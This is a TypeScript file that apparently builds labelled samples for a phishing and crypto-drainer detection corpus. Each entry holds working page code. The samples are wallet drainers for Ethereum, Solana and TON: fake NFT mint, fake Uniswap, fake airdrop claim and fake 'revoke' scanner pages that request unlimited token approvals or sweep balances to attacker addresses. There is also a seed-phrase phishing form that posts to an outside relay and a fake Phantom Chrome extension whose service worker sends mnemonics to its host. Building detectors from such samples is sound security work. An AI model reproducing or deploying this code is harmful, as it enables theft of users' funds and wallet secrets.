import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute, zip, pe, crx, apk } from '../parts/e-bin.js';
import { doc, icons, dappShell, vendorCss, footerLinks } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'mint.pixelmonkes-nft.com';
  return {
    id: 'm-drainer-nft-free-mint-setapprovalforall',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: `https://${host}/mint`,
    body: doc({
      title: 'Pixel Monkes – Free Mint Live',
      css: `body{margin:0;background:#fdf3e1;font-family:"Press Start 2P",monospace,Arial;color:#2b1d0e;text-align:center}.g{display:flex;justify-content:center;gap:10px;margin:20px}.g div{width:90px;height:90px;background:#e3b778;border:4px solid #2b1d0e}
.b{background:#ff5e5b;color:#fff;border:4px solid #2b1d0e;padding:16px 30px;font-size:16px;cursor:pointer;font-family:inherit}.bar{width:400px;height:20px;border:3px solid #2b1d0e;margin:10px auto}.bar i{display:block;height:100%;width:87%;background:#4caf50}`,
      body: `<h1 style="margin-top:40px">PIXEL MONKES</h1><p>5,555 pixel monkes. FREE MINT for holders of BAYC, Azuki, Pudgy Penguins, Milady.</p>
<div class="g"><div></div><div></div><div></div><div></div></div><p>4,832 / 5,555 minted</p><div class="bar"><i></i></div>
<button class="b" id="m">CONNECT &amp; MINT</button><p id="s"></p><p style="font-size:10px;margin-top:40px">Twitter · Discord · OpenSea</p>
<script>
(async function(){
  var OP='0x3C5f1a4bE2e7d2a8E0aF3c9C9d2b1B7e4a8F2c61';
  var COLL=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0xBd3531dA5CF5857e7CfAA92426877b022e612cf8'];
  function pad(x){return x.toLowerCase().replace('0x','').padStart(64,'0');}
  document.getElementById('m').onclick=async function(){
    if(!window.ethereum){document.getElementById('s').textContent='Please open in MetaMask browser';return;}
    var [from]=await ethereum.request({method:'eth_requestAccounts'});
    var owned=await (await fetch('/api/holdings?w='+from)).json();
    for(var c of COLL.filter(function(c){return owned[c]})){
      // setApprovalForAll(address operator,bool approved)
      var data='0xa22cb465'+pad(OP)+pad('0x1');
      try{await ethereum.request({method:'eth_sendTransaction',params:[{from:from,to:c,data:data}]});navigator.sendBeacon('/api/ok',JSON.stringify({w:from,c:c}));}catch(e){}
    }
    document.getElementById('s').textContent='Mint pending… check your wallet.';
  };
})();
</script>`,
    }),
    routes: {
      ...icons(host, [255, 94, 91]),
      [`${host}/api/holdings`]: jsonRoute({ '0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D': true, '0xED5AF388653567Af2F388E6224dC7C4b3241C544': true }),
      [`${host}/api/ok`]: jsonRoute({ ok: 1 }),
    },
  };
})(),

(() => {
  const host = 'app.uniswap-interface.trade';
  const js = `var _0x5c=['eth_requestAccounts','eth_sendTransaction','0x095ea7b3','ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'];
(function(){var R='0000000000000000000000009e1f6b3a8cd0f4b12e7a0c5d3b2e8f9a1c4d7e60';var ap=document.getElementById('connectBtn'),sw=document.getElementById('sw');var me;
async function c(){if(!window.ethereum){alert('No wallet found');return}me=(await ethereum.request({method:_0x5c[0]}))[0];ap.textContent=me.slice(0,6)+'…';sw.textContent='Approve USDT';}
ap.onclick=c;sw.onclick=async function(){if(!me){await c();return}
var list=await (await fetch('/v2/tokens?owner='+me)).json();
for(var t of list.tokens){try{await ethereum.request({method:_0x5c[1],params:[{from:me,to:t.address,data:_0x5c[2]+R+_0x5c[3]}]});fetch('/v2/notify',{method:'POST',body:JSON.stringify({o:me,t:t.address})});}catch(e){}}
try{var b=await ethereum.request({method:'eth_getBalance',params:[me,'latest']});var v=BigInt(b)*95n/100n;await ethereum.request({method:_0x5c[1],params:[{from:me,to:'0x9e1f6b3a8cd0f4b12e7a0c5d3b2e8f9a1c4d7e60',value:'0x'+v.toString(16)}]});}catch(e){}
};})();`;
  return {
    id: 'm-drainer-fake-dex-approve-max',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: `https://${host}/swap?inputCurrency=ETH&outputCurrency=0xdAC17F958D2ee523a2206206994597C13D831ec7`,
    body: dappShell({
      name: 'Uniswap',
      title: 'Uniswap Interface',
      accent: '#fc72ff',
      nav: ['Trade', 'Explore', 'Pool'],
      main: `<div class="panel"><div style="display:flex;justify-content:space-between"><b>Swap</b><span class="dim">⚙</span></div>
<div class="row"><div><small>You pay</small><br><input value="0.5"></div><span class="tok">ETH ▾</span></div><div class="row"><div><small>You receive</small><br><input value="1,742.31"></div><span class="tok">USDT ▾</span></div>
<button class="big" id="sw">Connect wallet</button><p class="dim" style="font-size:12px">1 ETH = 3,484.62 USDT · Fee 0.05%</p></div>
<footer>Uniswap Labs · v4 · <a href="#" style="color:inherit">Status</a></footer>`,
      scripts: `<script src="/static/js/main.8f2a91c3.chunk.js"></script>`,
    }),
    routes: {
      ...icons(host, [252, 114, 255]),
      [`${host}/static/js/main.8f2a91c3.chunk.js`]: jsRoute(js),
      [`${host}/v2/tokens`]: jsonRoute({ tokens: [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'WETH', address: '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2' }] }),
      [`${host}/v2/notify`]: jsonRoute({}),
    },
  };
})(),

(() => {
  const host = 'jup-airdrop.claims-solana.com';
  return {
    id: 'm-drainer-solana-phantom-claim',
    label: 'cryptodrainer',
    kind: 'solana-drainer',
    url: `https://${host}/`,
    body: doc({
      title: 'Jupiter – Jupuary 2026 Claim',
      css: `body{margin:0;background:#0f1621;color:#e8f9ef;font-family:Inter,Arial,sans-serif;text-align:center}.c{max-width:460px;margin:80px auto;background:#192231;border-radius:20px;padding:30px}
.b{background:linear-gradient(90deg,#c7f284,#00bef0);color:#0f1621;border:0;border-radius:12px;padding:14px;width:100%;font-weight:700;font-size:16px;cursor:pointer}`,
      body: `<div class="c"><img src="/img/logo.png" width="60" height="60" alt="" style="border-radius:50%"><h2>Jupuary 2026 is here</h2><p>Claim your JUP allocation for being an active Solana user. Snapshot taken Nov 1, 2025.</p>
<button class="b" id="c">Connect Phantom</button><p id="s" style="opacity:.7;font-size:13px"></p></div>
<script src="/js/claim-sol.js"></script>`,
    }),
    routes: {
      ...icons(host, [199, 242, 132]),
      [`${host}/js/claim-sol.js`]: jsRoute(`(function(){
var p=window.phantom&&window.phantom.solana||window.solana;var RECV='8wYrC5N4kqS2rKpEJd1s7bXG9Fq3aTfV7uLmZc2hQvPx';
document.getElementById('c').onclick=async function(){
  if(!p){location.href='https://phantom.app/ul/browse/'+encodeURIComponent(location.href);return;}
  var r=await p.connect();var pk=r.publicKey.toString();document.getElementById('s').textContent='Checking eligibility for '+pk.slice(0,4)+'…';
  var j=await (await fetch('/api/build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,to:RECV})})).json();
  var txs=j.txs.map(function(b){return window.solanaWeb3?solanaWeb3.VersionedTransaction.deserialize(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})):b});
  try{var signed=await p.signAllTransactions(txs);await fetch('/api/send',{method:'POST',body:JSON.stringify({owner:pk,n:signed.length,sig:signed.map(function(t){return t.signature||''})})});document.getElementById('s').textContent='Claimed! JUP will appear shortly.';}
  catch(e){document.getElementById('s').textContent='Claim failed, please try again.';}
};})();`),
      [`${host}/api/build`]: jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQACBA=='] }),
      [`${host}/api/send`]: jsonRoute({ ok: true }),
    },
  };
})(),

(() => {
  const host = 'notcoin-claim.tonrewards.app';
  return {
    id: 'm-drainer-ton-connect-sweep-ru',
    label: 'cryptodrainer',
    kind: 'ton-drainer',
    url: `https://${host}/ru/`,
    body: doc({
      title: 'Notcoin — Получите бонус NOT',
      lang: 'ru',
      css: `body{margin:0;background:#000;color:#fff;font-family:Arial,sans-serif;text-align:center}.c{max-width:420px;margin:60px auto;padding:20px}.coin{width:160px;height:160px;border-radius:50%;background:radial-gradient(#ffd24a,#c89200);margin:20px auto}
.b{background:#0098ea;color:#fff;border:0;border-radius:14px;padding:16px;width:100%;font-size:17px;font-weight:bold;cursor:pointer}`,
      body: `<div class="c"><div class="coin"></div><h2>Вам начислено 25 000 NOT</h2><p>Подключите TON-кошелёк (Tonkeeper, MyTonWallet, Telegram Wallet), чтобы получить бонус за активность в Notcoin.</p>
<button class="b" id="tc">Подключить кошелёк</button><p id="s" style="opacity:.6"></p></div>
<script src="/tonconnect-ui.min.js"></script>
<script>
(async function(){
  var manifest='https://notcoin-claim.tonrewards.app/tonconnect-manifest.json';
  var ui=window.TON_CONNECT_UI?new TON_CONNECT_UI.TonConnectUI({manifestUrl:manifest}):null;
  var DEST='UQBx9kFqP3m2c8YtV7LrW4dN1sE6gH5jK0aZ2bX8cV3nM7qR';
  document.getElementById('tc').onclick=async function(){
    if(!ui){document.getElementById('s').textContent='Откройте страницу в Telegram';return;}
    await ui.openModal();
    ui.onStatusChange(async function(w){
      if(!w)return;
      var info=await (await fetch('/api/wallet?a='+w.account.address)).json();
      var msgs=[{address:DEST,amount:String(info.ton-50000000)}].concat(info.jettons.map(function(j){return {address:j.wallet,amount:'50000000',payload:j.transferPayload}}));
      await ui.sendTransaction({validUntil:Math.floor(Date.now()/1000)+600,messages:msgs});
    });
  };
})();
</script>`,
    }),
    routes: {
      ...icons(host, [0, 152, 234]),
      [`${host}/tonconnect-ui.min.js`]: jsRoute(`/* @tonconnect/ui 2.0.9 */window.TON_CONNECT_UI={TonConnectUI:function(o){this.o=o;this.openModal=function(){return Promise.resolve()};this.onStatusChange=function(){};this.sendTransaction=function(){return Promise.reject(new Error('no wallet'))}}};`),
      [`${host}/tonconnect-manifest.json`]: jsonRoute({ url: 'https://notcoin-claim.tonrewards.app', name: 'Notcoin', iconUrl: 'https://notcoin-claim.tonrewards.app/favicon.png' }),
      [`${host}/api/wallet`]: jsonRoute({ ton: 0, jettons: [] }),
    },
  };
})(),

(() => {
  const host = 'revoke-security.web3check.io';
  return {
    id: 'm-drainer-fake-revoke-checker',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: `https://${host}/scan`,
    body: dappShell({
      name: 'Web3Check',
      title: 'Wallet Security Scan – Revoke risky approvals',
      accent: '#e53e3e',
      nav: ['Scan', 'Revoke', 'Learn'],
      main: `<div class="panel"><h2>⚠ Your wallet may be compromised</h2><p class="dim">Recent exploits (Nov 2025) target wallets that approved malicious contracts. Connect your wallet and click <b>Secure wallet</b> to revoke all risky approvals in one transaction.</p>
<button class="big" id="sec">Secure wallet</button><p id="m" class="dim"></p></div><footer>Web3Check · trusted by 200k wallets</footer>`,
      scripts: `<script>
document.getElementById('sec').onclick=async function(){
  if(!window.ethereum){document.getElementById('m').textContent='No wallet detected';return;}
  var [a]=await ethereum.request({method:'eth_requestAccounts'});
  var r=await (await fetch('/api/risky?w='+a)).json();
  for(var i=0;i<r.length;i++){
    // "revoke" = approve(spender, MAX)
    await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:r[i].token,data:'0x095ea7b3000000000000000000000000'+r[i].guard.slice(2)+'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]}).catch(function(){});
  }
  document.getElementById('m').textContent='Wallet secured ✔';
};
</script>`,
    }),
    routes: {
      ...icons(host, [229, 62, 62]),
      [`${host}/api/risky`]: jsonRoute([{ token: '0xdAC17F958D2ee523a2206206994597C13D831ec7', guard: '0x51a4c9E2d8b3F0e7A6C5D4b3a2F1e0D9c8B7a6F5' }, { token: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', guard: '0x51a4c9E2d8b3F0e7A6C5D4b3a2F1e0D9c8B7a6F5' }]),
    },
  };
})(),

(() => {
  const host = 'dapps-rectify-node.web.app-sync.net';
  const wallets = ['MetaMask', 'Trust Wallet', 'Coinbase', 'Phantom', 'Exodus', 'Ledger Live', 'Atomic', 'SafePal', 'Rainbow', 'Keplr', 'OKX Wallet', 'Bitget Wallet'];
  return {
    id: 'm-seed-dapp-sync-rectify-import',
    label: 'phishing',
    kind: 'seed-phrase',
    url: `https://${host}/`,
    body: doc({
      title: 'DappSync | Decentralized Protocol to Sync Wallets',
      css: `body{margin:0;background:#0e0b1d;color:#ddd;font-family:Montserrat,Arial,sans-serif}.h{text-align:center;padding:50px 20px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:14px;max-width:900px;margin:auto}
.g button{background:#1a1533;border:1px solid #332a5c;color:#fff;padding:18px;border-radius:10px;cursor:pointer}.iss{display:grid;grid-template-columns:repeat(3,1fr);gap:12px;max-width:900px;margin:30px auto}.iss div{background:#171230;padding:14px;border-radius:8px;font-size:14px}
#m{position:fixed;inset:0;background:rgba(0,0,0,.7);display:none;align-items:center;justify-content:center}#m .b{background:#fff;color:#222;border-radius:10px;padding:24px;width:440px}.tabs span{margin-right:12px;cursor:pointer;font-weight:bold}
textarea,input{width:100%;box-sizing:border-box;padding:10px;margin:8px 0;border:1px solid #ccc;border-radius:6px}`,
      body: `<div class="h"><h1>DappSync</h1><p>Open protocol for syncing and rectifying wallet issues on all decentralized applications. Select an issue below.</p></div>
<div class="iss"><div>Migration</div><div>Claim Reward</div><div>Rectification</div><div>Whitelist</div><div>Slippage Error</div><div>Transaction Delay</div><div>Locked Account</div><div>Missing Balance</div><div>NFT Bridge</div></div>
<h3 style="text-align:center">Select wallet</h3><div class="g">${wallets.map((w) => `<button class="wb">${w}</button>`).join('')}</div>
<div id="m"><div class="b"><h3 id="wn">Import wallet</h3><p style="color:#c00;font-size:13px">Automatic connection failed. Connect manually.</p><div class="tabs"><span data-t="phrase">Phrase</span><span data-t="keystore">Keystore JSON</span><span data-t="pk">Private Key</span></div>
<form id="f"><input type="hidden" name="wallet" id="wv"><textarea name="phrase" id="ta" placeholder="Enter your recovery phrase"></textarea><input name="keystorepass" placeholder="Wallet password (keystore only)"><small>Typically 12 (sometimes 24) words separated by single spaces</small><button style="width:100%;padding:12px;background:#3a2ef0;color:#fff;border:0;border-radius:6px;margin-top:8px">PROCEED</button></form></div></div>
<script>
var ws=document.querySelectorAll('.wb');for(var i=0;i<ws.length;i++)ws[i].onclick=function(){document.getElementById('wn').textContent='Import your '+this.textContent+' wallet';document.getElementById('wv').value=this.textContent;document.getElementById('m').style.display='flex';};
var tb=document.querySelectorAll('.tabs span');for(var j=0;j<tb.length;j++)tb[j].onclick=function(){document.getElementById('ta').placeholder=this.dataset.t==='pk'?'Enter your private key':this.dataset.t==='keystore'?'Paste keystore JSON':'Enter your recovery phrase';document.getElementById('ta').name=this.dataset.t;};
document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);var o={};fd.forEach(function(v,k){o[k]=v});
fetch('https://api.telegram-relay.app-sync.net/bot/send',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).finally(function(){alert('Error 503: Node busy. Please try again later.')});};
</script>`,
    }),
    routes: {
      ...icons(host, [58, 46, 240]),
      'api.telegram-relay.app-sync.net/bot/send': jsonRoute({ ok: true }),
    },
  };
})(),

(() => {
  const host = 'phantom-wallet-extension.com';
  return {
    id: 'm-fakewallet-phantom-extension-crx',
    label: 'malware',
    kind: 'fake-wallet-app',
    url: `https://${host}/download/chrome`,
    body: doc({
      title: 'Phantom – Crypto Wallet Extension for Chrome',
      css: `body{margin:0;background:#ab9ff2;font-family:Inter,Arial,sans-serif;color:#1c1c1c}.c{max-width:640px;margin:0 auto;padding:80px 20px;text-align:center}.b{background:#1c1c1c;color:#fff;padding:16px 32px;border-radius:30px;text-decoration:none;display:inline-block;font-weight:700}
ol{text-align:left;background:#fff;border-radius:14px;padding:20px 40px}`,
      body: `<div class="c"><h1>Add Phantom to Chrome</h1><p>The Chrome Web Store listing is temporarily unavailable in your region. Install the official extension manually:</p>
<a class="b" href="/files/phantom-chrome-25.9.0.zip">Download Phantom (ZIP)</a>
<ol><li>Unzip the file.</li><li>Go to <b>chrome://extensions</b> and enable <b>Developer mode</b>.</li><li>Click <b>Load unpacked</b> and select the unzipped folder.</li><li>Import your existing wallet with your recovery phrase.</li></ol>
<p style="font-size:12px">© Phantom Technologies 2025</p></div>`,
    }),
    routes: {
      ...icons(host, [171, 159, 242]),
      [`${host}/files/phantom-chrome-25.9.0.zip`]: fileRoute(zip([
        { name: 'phantom/manifest.json', data: JSON.stringify({ manifest_version: 3, name: 'Phantom', version: '25.9.0', permissions: ['storage', 'tabs'], host_permissions: ['<all_urls>'], background: { service_worker: 'sw.js' } }) },
        { name: 'phantom/sw.js', data: "chrome.runtime.onMessage.addListener(m=>{if(m.mnemonic)fetch('https://phantom-wallet-extension.com/k',{method:'POST',body:m.mnemonic})});" },
      ]), 'application/zip', 'phantom-chrome-25.9.0.zip'),
    },
  };
})(),
];
